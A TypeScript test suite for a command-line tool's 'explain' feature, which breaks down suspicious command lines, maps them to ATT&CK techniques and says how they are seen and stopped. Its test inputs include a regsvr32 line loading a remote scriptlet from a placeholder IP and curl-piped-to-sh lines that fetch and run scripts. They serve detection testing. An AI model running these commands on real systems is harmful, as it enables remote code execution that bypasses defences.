import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { readVectors } from "../../src/catalog/vectors.ts";
import { MAX_LINE } from "../../src/cli/explain/lines.ts";
import { jsonLine } from "../../src/outputs/escape.ts";
import { explain } from "../../src/pipeline/explain.ts";
import { requestOf } from "../../src/pipeline/vectors.ts";
import { curesOf } from "../../src/policies/cure/cure.ts";
import { testCatalog } from "../support/events.ts";
import { whatran } from "../support/io.ts";
import { SCRIPTLET } from "../support/logs.ts";

const lines = (text: string) => text.split("\n").slice(0, -1);

describe("explain", () => {
  it("answers in JSON into a pipe", async () => {
    const { code, out } = await whatran(["explain", SCRIPTLET]);
    expect(code).toBe(0);
    const answer = JSON.parse(out);
    expect(answer.commandLine).toBe(SCRIPTLET);
    expect(answer.invocations[0].behaviours[0]).toMatchObject({
      id: "windows/regsvr32/scriptlet",
      runs: [{ what: "scriptlet", where: "web", value: "http://203.0.113.9/a.sct", remote: true }],
    });
    expect(answer.verdict.level).toMatch(/high|critical/);
  });

  it("teaches on a terminal: who, arguments, what runs, why, how it is seen and stopped", async () => {
    const { out } = await whatran(["explain", SCRIPTLET], { tty: true, env: { NO_COLOR: "1" } });
    for (const part of [
      "regsvr32.exe",
      "Registers COM servers",
      "arguments",
      "runs",
      "T1218.010",
      "seen by",
      "stopped",
      "M1038",
    ])
      expect(out).toContain(part);
    for (const line of out.split("\n")) expect(line.length).toBeLessThanOrEqual(100);
  });

  it("names flags as they are set, each once", async () => {
    const { out } = await whatran(["explain", "curl -fsSL -s https://files.example.net/a", "-t", "text", "-K"]);
    expect(out).toMatch(/arguments f +\(set\)\n +s, S +\(set\)\n +L +\(set\)\n +urls/);
  });

  it("says what is uncertain of a cure without the rule that it would be asked of", async () => {
    const { out } = await whatran(["explain", SCRIPTLET, "-t", "text", "-K"]);
    expect(out.replace(/\s+/g, " ")).toContain("(uncertain here: whether the user is an administrator is not logged)");
  });

  it.each(["", "  "])("asks for a command line where it is given %j", async (line) => {
    const { code, err } = await whatran(["explain", line]);
    expect(code).toBe(2);
    expect(err).toContain("needs a command line");
  });

  it("shows what hides in a command line instead of printing it", async () => {
    const { out } = await whatran(["explain", "rundll32 a.dll,\u202eMain\u001b[2J", "-t", "text"]);
    expect(out).toContain("\\u{202e}Main");
    expect(out).not.toMatch(/[\u202e\u001b]/);
  });

  it("takes several words as an argument list", async () => {
    const { out } = await whatran([
      "explain",
      "--platform",
      "linux",
      "--",
      "find",
      "/",
      "-exec",
      "sh",
      "-c",
      "id; ls",
      ";",
    ]);
    expect(JSON.parse(out).invocations.map((one: { binary: { name: string } }) => one.binary.name)).toEqual(
      expect.arrayContaining(["find", "sh"]),
    );
  });

  it("masks secrets with --redact, in every form", async () => {
    for (const format of ["json", "text"]) {
      const line = "regsvr32 /s /i:http://u:Winter24@203.0.113.9/a.sct scrobj.dll";
      expect((await whatran(["explain", line, "-t", format, "--redact"])).out).not.toContain("Winter24");
    }
  });

  it("asks about a name that is close to a known one", async () => {
    const told = async (line: string) => (await whatran(["explain", line, "-t", "text"])).out;
    expect(await told("regsrv32 a.dll")).toMatch(/did you mean\s+regsvr32\?/);
    for (const line of ["orchard a.dll", "ping host", "umount /srv"])
      expect(await told(line)).not.toContain("did you mean");
  });

  it("needs a command line", async () => expect((await whatran(["explain"])).code).toBe(2));
});

describe("explain --stdin", () => {
  it("takes a shell's group or braces for a command line, and not for an object", async () => {
    const stdin = "{ curl -s http://files.example.net/a; } | sh\n{curl,-s,http://files.example.net/b}|sh\n";
    const { code, out } = await whatran(["explain", "--stdin", "--platform", "linux"], { stdin });
    expect(code).toBe(0);
    expect(out).toMatch(
      /carries out what another command fetches: the script http:\/\/files\.example\.net\/a\..*\n.*example\.net\/b\./,
    );
  });

  const ask = async (stdin: string, ...flags: string[]) => {
    const ran = await whatran(["explain", "--stdin", "--format", "ndjson", ...flags], { stdin });
    return { ...ran, answers: lines(ran.out).map((line) => JSON.parse(line)) };
  };

  it("answers plain lines and objects, in order", async () => {
    const { answers, code } = await ask(
      [
        SCRIPTLET,
        JSON.stringify({ commandLine: "/s x.dll", image: "C:\\Windows\\System32\\regsvr32.exe" }),
        JSON.stringify({ args: ["find", ".", "-exec", "id", ";"], platform: "linux" }),
      ].join("\n"),
    );
    expect(code).toBe(0);
    expect(answers.map((one) => one.invocations[0]?.binary.name)).toEqual(["regsvr32.exe", "regsvr32.exe", "find"]);
  });

  it("answers every line, wrong ones too, and says on stderr which", async () => {
    const { answers, err, code } = await ask('notepad\n{"commandLine": \n\n{"x":1}\n{"commandLine":5}\nnotepad');
    expect(code).toBe(0);
    expect(answers).toHaveLength(6);
    for (const wrong of [1, 3, 4]) {
      expect(answers[wrong].invocations).toEqual([]);
      expect(answers[wrong].verdict).toMatchObject({ level: "informational", text: expect.stringContaining("Error") });
    }
    expect(err).toContain("stdin:2");
    expect(err).toContain("[explain/bad-line]");
  });

  it("takes flags as what is known of every line", async () => {
    const { answers } = await ask("/s x.dll\n", "--image", "C:\\Windows\\System32\\regsvr32.exe", "--as", "logged");
    expect(answers[0].invocations[0].binary.name).toBe("regsvr32.exe");
  });

  it("reads lines however the bytes are cut, with Windows line ends and a byte order mark", async () => {
    const bytes = Buffer.from(`\ufeff${SCRIPTLET}\r\nnotepad ünïcode 漢\r\n`);
    async function* cut(): AsyncGenerator<Buffer> {
      for (const byte of bytes) yield Buffer.from([byte]);
    }
    const { out } = await whatran(["explain", "--stdin"], { stdin: cut() });
    expect(lines(out).map((line) => JSON.parse(line).commandLine)).toEqual([SCRIPTLET, "notepad ünïcode 漢"]);
  });

  it("gives as many answers as there are lines, whatever they hold", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.string({ unit: "binary", maxLength: 60 }), { minLength: 1, maxLength: 6 }),
        async (texts) => {
          const clean = texts.map((text) => text.replaceAll("\n", " "));
          const { answers } = await ask(`${clean.join("\n")}\n`);
          expect(answers).toHaveLength(clean.length);
        },
      ),
      { numRuns: 40 },
    );
  });

  it("answers command lines of ten million characters however JSON writes them, and says what was cut", async () => {
    const long = ['"', "\u0001"].map((char) => `${SCRIPTLET} ${char.repeat(10_000_000)}`);
    const { answers, err } = await ask(long.map((commandLine) => `${JSON.stringify({ commandLine })}\n`).join(""));
    expect(err).toBe("");
    expect(answers.map(({ commandLine }) => commandLine.length)).toEqual(long.map(({ length }) => length));
    for (const { invocations, verdict } of answers) {
      expect(invocations[0].cut).toContain("longer than");
      expect(verdict.text).toContain("Not all of it was read");
    }
  });

  it("writes the same as if nothing were remembered", async () => {
    const catalog = testCatalog();
    const requests = readVectors("catalog")
      .flatMap(({ platform, resolve }) =>
        resolve.filter((_, at) => at % 40 === 0).map((one) => requestOf(one, platform)),
      )
      // Which domain a machine is of stands in logs alone.
      .filter(({ domain }) => domain === undefined);
    const told = lines((await ask(requests.map((request) => `${JSON.stringify(request)}\n`).join(""))).out);
    expect(told.length).toBe(requests.length);
    for (const [at, request] of requests.entries()) {
      const { explanation } = explain(request, catalog);
      const subjectOf = (index: number) => explanation.invocations[explanation.invocations[index]?.parent ?? -1];
      const invocations = explanation.invocations.map((one, index) => {
        const parent = one.parent === undefined ? request.parent : subjectOf(index)?.binary.path;
        const all = one.behaviours.flatMap(({ id, runs, fetches }) =>
          curesOf(
            { binary: one.binary, behaviour: id, runs, fetches, ...(parent !== undefined && { parent }) },
            catalog,
          ),
        );
        const cures = all.filter(({ text }, from) => all.findIndex((other) => other.text === text) === from);
        return cures.length === 0 ? one : { ...one, cures };
      });
      expect(told[at]).toBe(jsonLine({ ...explanation, invocations }));
    }
  });

  it("says of a line that is longer than any kept that it is", async () => {
    const { answers, err } = await ask(`notepad\n${"x".repeat(MAX_LINE + 1)}\nnotepad\n`);
    expect(answers.map(({ commandLine }) => commandLine)).toEqual(["notepad", "", "notepad"]);
    expect(answers[1].verdict.text).toContain(`longer than ${MAX_LINE} characters`);
    expect(err).toContain("stdin:2");
  });

  it("says what to do where a command line of several words is taken for options", async () => {
    const { code, err } = await whatran(["explain", "find", ".", "-exec", "id", ";"]);
    expect([code, err]).toEqual([
      2,
      expect.stringMatching(/option '-exec'\n.*in quotes, or -- before it; see whatran explain/),
    ]);
    expect((await whatran(["explain", "--platform", "linux", "--", "find", ".", "-exec", "id", ";"])).code).toBe(0);
  });

  it("stops when it is interrupted", async () => {
    const { code } = await whatran(["explain", "--stdin"], {
      stdin: "notepad\n",
      signal: AbortSignal.abort("interrupted"),
    });
    expect(code).toBe(130);
  });
});
